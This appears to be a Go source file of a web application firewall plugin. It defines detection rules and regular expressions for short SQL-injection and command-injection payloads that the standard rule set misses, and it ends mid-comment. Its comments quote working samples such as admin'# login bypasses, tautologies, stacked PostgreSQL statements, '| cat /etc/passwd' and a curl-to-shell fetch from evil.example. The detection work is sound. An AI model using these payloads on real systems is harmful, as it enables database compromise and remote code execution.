package waf

import (
	"regexp"
	"strings"

	"github.com/corazawaf/coraza/v3/experimental/plugins"
	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
	"github.com/corazawaf/libinjection-go"
)

// shortPayloadRules refuse the shortest SQL and command injections, which
// the CRS at paranoia 1 lets through (its SQL rules want more than a
// quote and a comment, its command rules a longer list of commands than
// the probes' own, and libinjection reads \' as an escaped quote): loaded
// with detectionRules (before the CRS; off with crs_only), on what those
// read.
//
//   - 210150: a quote closed and the rest of the statement commented out,
//     the login bypass admin'#, admin'--, admin')/*: a value, or a part
//     of it after a separator that applications split values on (; & ,
//     | or a line break: x=1;u=admin'#, a matrix parameter, a list), that
//     starts with a word (a user name), optionally name= before it, and
//     then a quote, optional closing parentheses and a comment
//     (quoteCommentRule). Prose with a quote and a dash or a hash later
//     ("the 'best' -- really", "Joe's #1") does not start so, and a
//     plural possessive then a comment and a word ("Jones' #1 fan",
//     "the Smiths' -- all of them") is let through.
//   - 210151: a shell command separator (; | || && & a backtick $( or a
//     line break) and a command that probes a host (shellCommandRule):
//     "; id", "| id", "&& id", "`id`", "x|id", "; sleep 5", "; ps aux",
//     "| cat /etc/passwd", "; c'u'rl evil.example/x|s'h'", "; w'h'o'am'i".
//   - 210152: SQL injection behind a backslash before the quote
//     (\' OR 1=1 --): libinjection (the CRS's 942100) reads \' as an
//     escaped quote, as MySQL does, so the rest is inside a string; in
//     SQL's own strings (PostgreSQL since 9.1, SQLite, SQL Server,
//     Oracle) a backslash is a character and the quote ends the string.
//     A value with a backslash before a quote is read by libinjection
//     once more with its escapes decoded (t:escapeSeqDecode: \' is ').
//   - 210153: SQL injection in a part of a value after a ';'
//     (sqliAfterSemicolonOp): 7;id=1 OR 1=1; and PostgreSQL's statements
//     libinjection does not know, stacked after a number or a closed
//     quote (stackedStatement): 1;grant all on users to public.
//   - 210154: a number OR-ed with || (numericOrRule): 1||1.
//   - 210158: a command then a '|' that ends the value, Perl's
//     two-argument open() of a pipe (perlOpenPipeRule): id|,
//     cat /etc/passwd|.
//   - 210155: a number, or/and/xor/||/&& and a condition that ends the
//     value (numericTautologyRule): 1 or true, 7 or 1, 1 or id=id,
//     1 and 0, 1 and password glob 'a*'.
var shortPayloadRules = `SecRule ` + valueHeaderTargets + ` "@rx ` + quoteCommentRule + `" "id:210150,phase:2,block,t:none,t:urlDecodeUni,msg:'SQL injection: a quote then a comment',tag:'application-multi',tag:'attack-sqli',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',chain"
	SecRule MATCHED_VAR "!@` + quotedTermsOnlyOp + `" "t:none,setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
SecRule ` + valueHeaderTargets + ` "@rx ` + shellCommandRule() + `" "id:210151,phase:2,block,t:none,t:urlDecodeUni,msg:'Command injection: a separator then a probing command',tag:'application-multi',tag:'attack-rce',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
SecRule ` + valueHeaderTargets + ` "@rx \x5c['\"` + "`" + `]" "id:210152,phase:2,block,t:none,t:urlDecodeUni,msg:'SQL injection behind a backslash before a quote',tag:'application-multi',tag:'attack-sqli',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',chain"
	SecRule MATCHED_VAR "@detectSQLi" "t:none,t:escapeSeqDecode,setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
SecRule ` + valueHeaderTargets + ` "@` + sqliAfterSemicolonOp + `" "id:210153,phase:2,block,t:none,t:urlDecodeUni,msg:'SQL injection after a semicolon',tag:'application-multi',tag:'attack-sqli',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
SecRule ` + valueHeaderTargets + ` "@rx ` + numericOrRule + `" "id:210154,phase:2,block,t:none,t:urlDecodeUni,msg:'SQL injection: a number OR-ed with ||',tag:'application-multi',tag:'attack-sqli',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
SecRule ` + valueHeaderTargets + ` "@rx ` + spelledCommandRule + `" "id:210157,phase:2,block,t:none,t:urlDecodeUni,msg:'Command injection: a command spelled by variables or a glob, or getent',tag:'application-multi',tag:'attack-rce',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
SecRule ` + valueTargets + ` "@rx ` + perlOpenPipeRule() + `" "id:210158,phase:2,block,t:none,t:urlDecodeUni,msg:'Command injection: a command then a trailing pipe (Perl open)',tag:'application-multi',tag:'attack-rce',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
SecRule ` + valueHeaderTargets + ` "@rx ` + numericTautologyRule + `" "id:210155,phase:2,block,t:none,t:urlDecodeUni,msg:'SQL injection: a number then a logical operator and a condition',tag:'application-multi',tag:'attack-sqli',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
`

// spelledCommandRule is rule 210157's expression: after a shell's
// separator (; | & a backtick, a line break or $(), a command spelled
// wholly by variables ($a$b, ${a}${b}: 127.0.0.1;a=i;b=d;$a$b runs id),
// a glob for a program under /bin or /sbin (/bin/ca? /etc/pa??wd runs
// cat), or getent with a database (getent passwd dumps the users): each
// passed an eighth fresh-eyes attack (attack 12), checked on dash.
const spelledCommandRule = "(?:[;|&`\\n]|\\$\\()\\s*(?:(?:\\$\\{?[a-zA-Z_]\\w*\\}?){2,}(?:\\s|$|[;|&)])|/(?:usr/)?s?bin/[\\w.-]*[?*\\[]|getent\\s+(?:passwd|shadow|group|gshadow|hosts|ahosts\\w*|services|networks|protocols|netgroup|initgroups|aliases|ethers|rpc)\\b)"

// perlOpenPipeRule is rule 210158's expression: a value that is a command
// and then a '|' at its end, which Perl's two-argument open() runs and
// reads (open(my $f, $file) with ?file=id| runs id; a ninth fresh-eyes
// attack, attack 13). A command of rule 210151's lists that is no word of
// prose (whoami, curl, wget, ...) with any arguments, or one that is a
// word too (id, cat, ls, ...) alone or with arguments that are options,
// paths, variables, quoted strings or numbers (cat /etc/passwd|,
// ls -la /|): "cat and dog|", "id | name |" and "head|tail|" pass. Not
// covered: a command spelled with quotes or expansions between its
// letters (i""d|), which 210151 reads after a separator only.
func perlOpenPipeRule() string {
	words := append(append(append([]string{"nc"}, shellCommandsWords...), shellCommandsFile...), shellCommandsNumber...)
	return `^\s*(?:(?:` + strings.Join(shellCommandsAnyArgs, "|") + `)(?:[ \t][^|\n]*)?` +
		`|(?:` + strings.Join(words, "|") + `)(?:[ \t]+(?:-[\w=.,-]*|[/~.$][^\s|]*|'[^'\n]*'|\"[^\"\n]*\"|\d[\w.]*))*)[ \t]*\|\s*\z`
}

// sqliAfterSemicolonOp is rule 210153's operator (sqliAfterSemicolon):
// each part of a value after a ';', without a name= before it, read by
// libinjection (the CRS's 942100) alone, and refused when libinjection
// takes it for SQL with a logical operator, UNION, a statement, a function
// or a stacked query in it. Spring's @MatrixVariable reads
// /api/users/7;id=1 OR 1=1 as id = "1 OR 1=1", and Rack 2 and Python's
// old parse_qs split a query or a form on ';' (?a=1;id=1 OR 1=1), but
// libinjection, reading 7;id=1 OR 1=1 whole, finds no SQL (a fifth
// fresh-eyes attack's F8). An operator, not @rx with capture and a chained
// @detectSQLi on TX:1: that chain did not match through a real server
// (the captures were not what the chain read), and an operator reads every
// part, not the last only. A value without ';' costs a byte scan.
const sqliAfterSemicolonOp = "gatewaySQLiAfterSemicolon"

func init() {
	plugins.RegisterOperator(sqliAfterSemicolonOp, func(plugintypes.OperatorOptions) (plugintypes.Operator, error) {
		return sqliAfterSemicolon{}, nil
	})
}

type sqliAfterSemicolon struct{}

// Evaluate: libinjection takes a part after a ';' for SQL, or the value
// stacks one of PostgreSQL's statements that libinjection does not know
// (stackedStatement).
func (sqliAfterSemicolon) Evaluate(_ plugintypes.TransactionState, v string) bool {
	if strings.IndexByte(v, ';') < 0 {
		return false
	}
	w := v
	if strings.Contains(w, "/*") || strings.Contains(w, "--") {
		// comments read as spaces, PostgreSQL's nested ones and -- to
		// the line's end too (1;/* /* */ x */table users, 1;table--x
		// users: a review of attack 92's fixes)
		w = stripSQLComments(w)
	}
	if stackedStatementWord.MatchString(w) && stackedStatement.MatchString(w) {
		return true
	}
	for {
		i := strings.IndexByte(v, ';')
		if i < 0 {
			return false
		}
		// prose before the ';' (blanks inside what comes before it, back
		// to the last ';'): a part with no name= after it is prose's next
		// clause ("She said \"it's fine\" and left; then he said 'or
		// not'." was refused: attack 89), read for UNION, a statement or
		// a stacked query only
		before := strings.TrimRight(v[:i], " \t")
		if j := strings.LastIndexByte(before, ';'); j >= 0 {
			before = before[j+1:]
		}
		prose := strings.ContainsAny(before, " \t")
		v = v[i+1:]
		part := v
		if j := strings.IndexByte(part, ';'); j >= 0 {
			part = part[:j]
		}
		part = strings.TrimLeft(part, " \t")
		if k := strings.IndexByte(part, '='); k > 0 && strings.IndexFunc(part[:k], notNameChar) < 0 {
			part = part[k+1:]
			prose = false
		}
		if part != "" {
			// SQL's own: a logical operator, UNION, a statement, a
			// function, a stacked query (not a number and a comment,
			// fingerprint 1c: "x=1;y=2 -- z" is prose)
			// after prose, UNION, a statement or a stacked query only
			// (Mozilla/5.0 (X11; Linux x86_64);1 union select ... in a
			// User-Agent: a review): "then he said 'or not'" is s&s
			sqlLetters := "&UETf;"
			if prose {
				sqlLetters = "UET;"
			}
			if ok, fp := libinjection.IsSQLi(part); ok && strings.ContainsAny(fp, sqlLetters) && !proseStatement(fp) {
				return true
			}
		}
	}
}

// proseStatement: libinjection's fingerprint fp is a word, a statement's
// first word, then words only (nTnkn: "Cast it to date; to drop the time
// part", attack 78's false positive): no SQL runs a word before a
// statement, and nothing in it is SQL's but the statement's word.
func proseStatement(fp string) bool {
	return strings.HasPrefix(fp, "nT") && strings.Trim(fp[2:], "nk") == ""
}

// stackedStatement is the second half of rule 210153 (a ninth fresh-eyes
// attack, attack 13): PostgreSQL's statements that libinjection reads as
// no SQL (1;grant all on users to public, 1; revoke all on users from
// public, 1;set role postgres, 1;lock table users, 1;comment on table
// users is 'x', 1;vacuum full, 1;listen x; node-postgres and psycopg run
// stacked statements) in their own shape, stacked the way an injection
// stacks them: after a number or a token that closes a quote, at the
// value's start or a ';' part's (name=), then ';', the statement, and
// the statement's end (the value's, a ';' or a comment). Prose after a
// semicolon is not in a statement's shape ("1; set the table", "1; lock
// the door", "1; grant access to users", "2; vacuum the car"), or does
// not follow a bare number ("Step 1; listen up"). The price: a value
// that is a number, ';' and such a statement's words ("1; listen up",
// "1; set role models") is refused. Comments (/**/) read as spaces.
// Go's regexp (RE2's), run only on a value with ';' and one of the
// statements' first words.
var stackedStatement = regexp.MustCompile(`(?is)(?:^|;)\s*(?:[\w.\[\]-]+=)?\(*\s*(?:` + stackedOperand + `|[^\s;]*['"])\s*\)*\s*;\s*(?:` +
	// GRANT and REVOKE of privileges on an object, and of PostgreSQL's
	// own roles (pg_read_server_files, pg_execute_server_program)
	`(?:grant|revoke(?:\s+grant\s+option\s+for)?)\s+` + sqlPrivileges + `(?:\s*,\s*` + sqlPrivileges + `)*\s+on\s+[^;]+?\s+(?:to|from)\s+[^;]+?` +
	`|(?:grant|revoke)\s+(?:pg_\w+|postgres|rds_superuser)(?:\s*,\s*[\w"]+)*\s+(?:to|from)\s+[^;]+?` +
	// SET ROLE, SET SESSION AUTHORIZATION, RESET of them
	`|set\s+(?:session\s+|local\s+)?(?:role|session\s+authorization)(?:\s+to\s+|\s*=\s*|\s+)[\w"']+` +
	`|reset\s+(?:role|session\s+authorization|all)` +
	// LOCK [TABLE] name [IN mode MODE] [NOWAIT]: TABLE or a mode needed
	`|lock\s+(?:table\s+(?:only\s+)?[\w."]+(?:\s*,\s*[\w."]+)*(?:\s+in\s+[a-z ]+?\s+mode)?|(?:only\s+)?[\w."]+(?:\s*,\s*[\w."]+)*\s+in\s+[a-z ]+?\s+mode)(?:\s+nowait)?` +
	// COMMENT ON an object IS a string or NULL
	`|comment\s+on\s+(?:table|column|schema|database|function|procedure|routine|role|view|materialized\s+view|index|extension|type|sequence|trigger|constraint|policy|rule|domain|language|server|aggregate|operator|cast|collation|conversion|event\s+trigger|foreign\s+table|publication|subscription|tablespace|statistics|large\s+object)\s+[^;]+?\s+is\s+(?:null|e?'(?:[^']|'')*'|\$\w*\$.*?\$\w*\$)` +
	// VACUUM, bare or with options (then a table)
	`|vacuum(?:(?:\s*\([^)]*\)|(?:\s+(?:full|freeze|verbose|analyze))+)(?:\s+[\w."]+)?)?` +
	// LISTEN, UNLISTEN, NOTIFY; LOAD of a library; CHECKPOINT; DISCARD
	`|(?:listen|unlisten)\s+(?:\*|[\w"]+)|notify\s+[\w"]+(?:\s*,\s*'[^']*')?|load\s+'[^']*'|checkpoint|discard\s+(?:all|plans|sequences|temp|temporary)` +
	// since attack 92 (each run on PostgreSQL 15 after WHERE id = 1):
	// TABLE t (every row: 1;table users, 1;table pg_shadow), of a name
	// no prose writes (stackedTable); MERGE INTO ... USING ... ON ...
	// WHEN [NOT] MATCHED (updates or deletes every row); COPY a table or
	// query to or from a file, STDOUT, STDIN or a program; PREPARE name
	// AS a statement, EXECUTE name; DECLARE a cursor for a query;
	// REASSIGN OWNED BY; REINDEX; REFRESH MATERIALIZED VIEW; MySQL's
	// FLUSH, INSTALL and UNINSTALL PLUGIN or COMPONENT, OPTIMIZE and
	// REPAIR TABLE, SHUTDOWN; SQLite's ATTACH and DETACH DATABASE and
	// PRAGMA. Since the review of those: the names quoted and
	// qualified, TABLE's clauses, strings in dollar and Unicode quotes,
	// no blank before a bracket; ANALYZE, CLUSTER, CHECK TABLE and a
	// transaction's statements, low harm and prose's words ("7; cluster
	// analysis", "1; begin"), are not read
	`|table\s+(?:only\s+)?` + stackedTable + `(?:\s*\*)?(?:\s+(?:order\s+by\s+[^;]+?|limit\s+\w+|offset\s+\w+(?:\s+rows?)?|fetch\s+[^;]+?))*` +
	`|merge\s+into\s+[^;]+?\s+using\b[^;]+?\bon\b[^;]+?\bwhen\s+(?:not\s+)?matched\b[^;]*?` +
	`|copy(?:\s*\([^;]*?\)|\s+` + stackedName + `(?:\s*\([^)]*\))?)\s*(?:to|from)\b\s*(?:` + stackedString + `|stdout|stdin|program\b[^;]*?)(?:\s*(?:with\s*)?\([^)]*\)|\s+[\w ]+?)?` +
	`|prepare\s+(?:\w+|"[^"]+")(?:\s*\([^)]*\))?\s+as\s*\(*\s*(?:select|insert|update|delete|values|table|merge|with)\b[^;]*?` +
	`|execute\s+(?:[a-z_]\w*|"[^"]+")(?:\s*\([^)]*\))?` +
	`|declare\s+(?:\w+|"[^"]+")\s+(?:(?:binary|insensitive|asensitive|no|scroll)\s+)*cursor\s+(?:with(?:out)?\s+hold\s+)?for\s*\(*\s*(?:select|values|table|with)\b[^;]*?` +
	`|reassign\s+owned\s+by\s+[^;]+?\s+to\s+[\w"]+` +
	`|reindex\s+(?:\([^)]*\)\s*)?(?:database|table|index|schema|system)\s+(?:concurrently\s+)?` + stackedName +
	`|refresh\s+materialized\s+view\s+(?:concurrently\s+)?` + stackedName + `(?:\s+with\s+(?:no\s+)?data)?` +
	`|flush\s+(?:local\s+|no_write_to_binlog\s+)?(?:privileges|hosts|status|user_resources|binary\s+logs|tables(?:\s+[\w.` + "`" + `]+(?:\s*,\s*[\w.` + "`" + `]+)*)?(?:\s+with\s+read\s+lock|\s+for\s+export)?)` +
	`|(?:install|uninstall)\s+(?:plugin\s+[\w` + "`" + `"']+(?:\s+soname\s+(?:'[^']*'|"[^"]*"))?|soname\s+(?:'[^']*'|"[^"]*")|component\s+(?:'[^']*'|"[^"]*")(?:\s*,\s*(?:'[^']*'|"[^"]*"))*)` +
	`|(?:optimize|repair)\s+(?:no_write_to_binlog\s+|local\s+)?tables?\s+` + stackedTable + `(?:\s*,\s*` + stackedName + `)*(?:\s+(?:quick|extended|use_frm))*` +
	`|shutdown(?:\s+wait\s+for\s+all\s+(?:replicas|slaves))?` +
	`|attach\s+(?:database\s+)?(?:'[^']*'|"[^"]*"|\([^;]*?\)|\S+\s*\|\|[^;]+?)\s+as\s+[\w"']+|attach\s+database\s+\w+\s+as\s+[\w"']+|detach\s+(?:database\s+)?[\w"']+` +
	`|pragma\s+(?:\w+\.)?(?:\w+|'[^']*'|"[^"]*")(?:\s*=\s*[-+]?[\w'"-]+|\s*\([^)]*\))?` +
	`)\s*(?:;|--|#|/\*|$)`)

// stackedOperand is what stands before a stacked statement's ';' in a
// numeric context: a number (1, 1.5, 1., .5, 1e0), signed, cast (1::int),
// in arithmetic (1+1, 1-0; a blank for +, which t:urlDecodeUni decodes
// so), or true, false, null (the review of attack 92's fixes: each ran
// on PostgreSQL 15).
const stackedOperand = `(?:[-+]?(?:\d+\.?\d*|\.\d+)(?:e[-+]?\d+)?|true|false|null)(?:::\w+)?(?:\s*[-+*/%\s]\s*[-+]?(?:\d+\.?\d*|\.\d+))*`

// stackedName is a table's name, qualified and quoted perhaps
// ("public".users, db.public.users).
const stackedName = `(?:(?:[a-z_]\w*|"[^"]+")\.){0,2}(?:[a-z_]\w*|"[^"]+")`

// stackedTable is a table's name that prose does not write after TABLE,
// REPAIR TABLE or OPTIMIZE TABLE ("1; table lamp", "1; table tennis"):
// quoted or qualified, with an underscore or a digit after its first
// letter, PostgreSQL's catalogs (pg_*), or one of the names an
// application's secrets are kept under.
const stackedTable = `(?:(?:[a-z_]\w*|"[^"]+")\.(?:(?:[a-z_]\w*|"[^"]+")\.)?(?:[a-z_]\w*|"[^"]+")|"[^"]+"|[a-z]+_\w*|[a-z]+\d\w*|` +
	`(?:users?|accounts?|passwords?|customers?|credentials?|secrets?|tokens?|sessions?|admins?|members?|employees?|payments?|` +
	`logins?|profiles?|clients?|staff|people|persons?|cards?|keys?|api_keys?|auth|roles?)\b)`

// stackedString is a string constant: quoted, escape or Unicode
// (e'...', u&'...') or dollar-quoted ($$...$$, $t$...$t$).
const stackedString = `(?:(?:e|u&)?'[^']*'|\$\w*\$[^;]*?\$\w*\$)`

// stripSQLComments returns v with its SQL comments read as spaces: /*
// */, nested as PostgreSQL nests them, and -- to the line's end.
func stripSQLComments(v string) string {
	var b strings.Builder
	b.Grow(len(v))
	for i := 0; i < len(v); {
		switch {
		case strings.HasPrefix(v[i:], "/*"):
			depth := 0
			for i < len(v) {
				if strings.HasPrefix(v[i:], "/*") {
					depth++
					i += 2
				} else if strings.HasPrefix(v[i:], "*/") {
					depth--
					i += 2
					if depth == 0 {
						break
					}
				} else {
					i++
				}
			}
			b.WriteByte(' ')
		case strings.HasPrefix(v[i:], "--"):
			for i < len(v) && v[i] != '\n' {
				i++
			}
			b.WriteByte(' ')
		default:
			b.WriteByte(v[i])
			i++
		}
	}
	return b.String()
}

// sqlPrivileges are GRANT's and REVOKE's privileges, for stackedStatement.
const sqlPrivileges = `(?:all(?:\s+privileges)?|select|insert|update|delete|truncate|references|trigger|usage|create|connect|temp|temporary|execute|maintain)(?:\s*\([^)]*\))?`

// stackedStatementWord is stackedStatement's cheap first look: one of
// its statements' first words after a ';' (comments already read as
// spaces).
var stackedStatementWord = regexp.MustCompile(`(?i);\s*(?:grant|revoke|set|reset|lock|comment|vacuum|listen|unlisten|notify|load|checkpoint|discard|` +
	`table|merge|copy|prepare|execute|declare|reassign|reindex|refresh|` +
	`flush|install|uninstall|optimize|repair|shutdown|attach|detach|pragma)\b`)

// notNameChar: c is not a character of a parameter's name (letters,
// digits, _ . [ ] -).
func notNameChar(c rune) bool {
	return !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '_' || c == '.' || c == '[' || c == ']' || c == '-')
}

// numericOrRule is rule 210154's expression: a number, ||, and a number,
// true, false, not, a quote or a parenthesis, at the value's start or
// after a ';' part's name=: WHERE id = 1||1 is every row in MySQL, where
// || is OR (a fifth fresh-eyes attack's F10); libinjection takes 1||1 for
// no SQL. A number is any of MySQL's (sqlNumber) or a quoted one, and
// the right side x'31', b'1', .1 or @@version too (a sixth fresh-eyes
// attack, attack 10, B10: 1||x'31', 1||@@version passed), and N'1' (a
// seventh, attack 11, BROKE 4: 1||n'1' passed).
const numericOrRule = `(?i)(?:^|;` + sqlSpace + `*(?:[\w.\[\]-]+=)?)` + sqlSpace + `*(?:[-+]?` + sqlNumber + `|'[-+]?` + sqlNumber + `'|\"[-+]?` + sqlNumber + `\")` +
	sqlSpace + `*\|\|` + sqlSpace + `*(?:[-+]?\.?\d|true\b|false\b|not\b|[xbn]'|@@\w|['\"(])`

// sqlNumber is a number as MySQL reads it: decimal (1, 1.5, .1, 1e0),
// hexadecimal (0x31, x'31') or binary (0b1, b'1'); x'31' and b'1' are
// strings of bytes, true in a condition when their number is not 0. A
// number may end in its dot (1., 1.e0: 1 or 1. passed a seventh
// fresh-eyes attack, attack 11, BROKE 4).
const sqlNumber = `(?:0x[0-9a-f]+|0b[01]+|x'[0-9a-f]*'|b'[01]*'|(?:\d+(?:\.\d*)?|\.\d+)(?:e[-+]?\d+)?)`

// sqlSpace is white space between SQL's tokens for rules 210154 and
// 210155: a space, a tab, a line break, a vertical tab, a form feed, a
// carriage return (1%0Bor%0Btrue, 1%0Aor%0Atrue: the addendum to B10),
// and a no-break space, as U+00A0 or as a lone byte 0xA0 (any byte that
// is not UTF-8, which Go's regexp reads as U+FFFD), which MySQL reads as
// white space (1%A0or%A0true passed a sixth fresh-eyes attack, B10). A
// list of lines "1", "or", "2" is so refused (TestNumericTautologyOnProse
// counts it with the price). The two characters are
// in the expression as themselves, not as \x{a0}: Coraza compiles an
// expression with an escape above \x7f with a matcher of bytes, which
// would not match U+00A0 (two bytes).
const sqlSpace = "[ \\t\\n\\x0b\\x0c\\r\u00a0\ufffd]"

// numericTautologyRule is rule 210155's expression: at the value's start
// (or a line's) or after a ';' part's name=, a number (sqlNumber, or one
// quoted: WHERE id = '1' or '1' is every row of a numeric column),
// or/and/xor (between spaces) or || or &&, optionally not, and a
// condition that ends the value (or comes before a ';', a comment or a
// closing parenthesis): true, false, null, a number, a quoted string or
// a system variable (@@version, '8.0.36': 8, true), or any of them or a
// column's name compared (= <> != <=> < <= > >=,
// like/glob/regexp/rlike and a quoted string, is [not] null/true/false,
// in (...)). WHERE id = 1 or true is every row, 1 and 0 and 1 and 1 are
// a blind probe's pair, 1 and password glob 'a*' reads SQLite's password
// one prefix a request (a fifth fresh-eyes attack's F18 and F19's blind
// probes); libinjection takes them for no SQL. MySQL's other true
// literals (1 or x'31', 1 or b'1', 1 or 0b1, 1 or .1, 1e0 or 1,
// 1 or @@version, '1' or '1', 1%A0or%A0true) passed a sixth fresh-eyes
// attack (attack 10, B10). Prose that goes on after
// the second number ("1 or 2 days", "3 and 4 bedrooms"), a word that is
// not compared ("1 or more") or text before the number ("page 1 or 2")
// passes; a value that is only two numbers and "or" ("1 or 2") is
// refused: the price (see TestNumericTautologyOnProse).
const numericTautologyRule = `(?i)(?:(?:^|;` + sqlSpace + `*(?:[\w.\[\]-]+=)?)` + sqlSpace + `*(?:[-+]?` + sqlNumber + `|'[-+]?` + sqlNumber + `'|\"[-+]?` + sqlNumber + `\")` +
	`(?:` + sqlSpace + `+(?:or|and|xor)` + sqlSpace + `+|` + sqlSpace + `*(?:\|\||&&)` + sqlSpace + `*)(?:not` + sqlSpace + `+|!)?` +
	`(?:` + tautologyValue + `(?:` + tautologyCompare + `)?|\w+` + tautologyCompare + `)` +
	sqlSpace + `*(?:\z|;|#|--|/\*|\))` +
	// a quote closed, then OR or AND and a cast (x' or bool(1)--)
	`|['\"]` + sqlSpace + `*(?:(?:or|and|xor)` + sqlSpace + `+|\|\||&&)(?:not` + sqlSpace + `+)?` + castCall + `)`

// tautologyValue is a constant of rule 210155's: true, false, null, a
// number, a quoted string (a national one too, N'1': 1 or N'1' and
// 1||n'1' passed a seventh fresh-eyes attack, attack 11, BROKE 4) or a
// system variable.
const tautologyValue = `(?:true|false|null|[-+]?` + sqlNumber + `|n?'[^']*'|\"[^\"]*\"|@@[\w.]+|` + castCall + `)`

// castCall is a PostgreSQL function-style cast of a constant, for rules
// 210155 and its quoted form: bool(1) is true, name('u') is 'u' (1 or
// bool(1), x' or bool(1)-- and x' or name('u')='u' or 'a'='b returned the
// admin row on PostgreSQL 15 and passed an eighth fresh-eyes attack,
// attack 12).
const castCall = `(?:bool|boolean|name|text|int[248]?|integer|float[48]|numeric|varchar|bpchar)` + sqlSpace + `*\(` + sqlSpace + `*(?:[-+]?` + sqlNumber + `|'[^']*'|true|false)` + sqlSpace + `*\)`

// tautologyCompare is a comparison of rule 210155's and its right side.
const tautologyCompare = `(?:` + sqlSpace + `*(?:=|==|<>|!=|<=>|<=?|>=?)` + sqlSpace + `*(?:` + tautologyValue + `|\w+)` +
	`|` + sqlSpace + `+(?:not` + sqlSpace + `+)?(?:like|glob|regexp|rlike)` + sqlSpace + `+(?:'[^']*'|\"[^\"]*\"|0x[0-9a-f]+)` +
	`|` + sqlSpace + `+is` + sqlSpace + `+(?:not` + sqlSpace + `+)?(?:null|true|false|unknown)` +
	`|` + sqlSpace + `+(?:not` + sqlSpace + `+)?in` + sqlSpace + `*\([^)]*\))`

// quoteCommentRule is rule 210150's expression: at the value's start or
// after a separator (; & , | or a line break: apps split values on them,
// x=1;u=admin'#), optional spaces and name=, a user name (words of any
// script, one or more with spaces between: müller'#, 张伟'#,
// John Smith' -- -, a fifth fresh-eyes attack's F5), a quote, optional
// closing parentheses, optional spaces and a comment, except a plural
// possessive in prose (quoteCommentAfterS). A space is \s or a vertical
// tab, white space to MySQL (admin'\v# passed a sixth fresh-eyes attack,
// attack 10, B18), or a no-break space (quoteSpace). After a ',' the
// user name is one word (tom, admin' #): a comma in a quotation of prose
// ("she said 'OK, whatever you say' -- then left") was read as a
// separator before a user name of three words (a twelfth fresh-eyes
// attack, attack 16, FP1).
const quoteCommentRule = `(?:(?:^|[;&|\n])` + quoteSpace + `*(?:[\w.\[\]-]+=)?(?:` + quoteCommentWord + `+[ \t]+)*|,` + quoteSpace + `*(?:[\w.\[\]-]+=)?)(?:` +
	// a word that does not end in s (or none), then any quote
	`(?:` + quoteCommentWord + `*(?:[0-9A-RT-Za-rt-z_.@+-]|[^\x00-\x7F]))?['\"` + "`" + `]\)*` + quoteSpace + `*(?:#|--|/\*)` +
	// a word that ends in s: not the possessive apostrophe's prose
	`|` + quoteCommentWord + `*[sS]` + quoteCommentAfterS + `)`

// quotedTermsOnlyOp is rule 210150's exemption (quotedTermsOnly).
const quotedTermsOnlyOp = "gatewayQuotedTermsOnly"

func init() { registerGoOperator(quotedTermsOnlyOp, quotedTermsOnly) }

// quotedTermsOnly is rule 210150's exemption: v holds a quote followed by
// a comment (closing brackets, then quoteSpace's white space between, as
// the rule's expression reads them), and each such quote is a backtick
// that opens a term of prose: after a blank, a bracket or the value's
// start, closed by a backtick on its line within 64 bytes (Markdown's
// inline code: Use the `--force` flag., Press `#` then enter, Type `/*`:
// no database reads a backtick as a string's quote, and none of
// Markdown's inline code was an injection's; attack 84's false
// positives). Quotes inside such a term are read too, and a quote or a
// double quote is always the rule's: admin '--x' logs in on SQL Server,
// which pads a comparison's trailing spaces (a review), as Use the
// '--force' flag. is prose's (the price). One pass.
func quotedTermsOnly(v string) bool {
	found := false
	for i := 0; i < len(v); i++ {
		c := v[i]
		if c != '\'' && c != '"' && c != '`' {
			continue
		}
		k := i + 1
		for k < len(v) && v[k] == ')' {
			k++
		}
		for k < len(v) {
			if n := quoteSpaceLen(v[k:]); n > 0 {
				k += n
				continue
			}
			break
		}
		if k >= len(v) || v[k] != '#' && !strings.HasPrefix(v[k:], "--") && !strings.HasPrefix(v[k:], "/*") {
			continue
		}
		found = true
		if c != '`' || i > 0 && v[i-1] != ' ' && v[i-1] != '\t' && v[i-1] != '(' && v[i-1] != '\n' {
			return false
		}
		e := strings.IndexByte(v[i+1:min(len(v), i+65)], '`')
		if e < 0 || strings.ContainsAny(v[i+1:i+1+e], "\r\n") {
			return false
		}
	}
	return found
}

// quoteSpaceLen is the length of quoteSpace's character at the start of
// s (white space, a vertical tab, a no-break space as U+00A0, a lone
// byte 0xA0 or U+FFFD), or 0.
func quoteSpaceLen(s string) int {
	switch {
	case s == "":
		return 0
	case strings.IndexByte(" \t\n\r\v\f\xa0", s[0]) >= 0:
		return 1
	case strings.HasPrefix(s, "\u00a0"):
		return 2
	case strings.HasPrefix(s, "\ufffd"):
		return 3
	}
	return 0
}

// quoteSpace is white space before rule 210150's comment: \s, a vertical
// tab, and a no-break space as U+00A0 or as a lone byte 0xA0 (read as
// U+FFFD, as in sqlSpace), white space to MySQL: admin'%A0#,
// admin'%C2%A0#, admin'%A0--%A0- passed a seventh fresh-eyes attack
// (attack 11, BROKE 13).
const quoteSpace = "[\\s\\x0b\u00a0\ufffd]"

// quoteCommentWord is a character of a user name for rule 210150: a
// letter or digit of any script, _ . @ + -.
const quoteCommentWord = `[\pL\pN_.@+-]`

// quoteCommentAfterS is what follows a word ending in s for rule 210150:
// a double quote or backtick then the comment; an apostrophe then closing
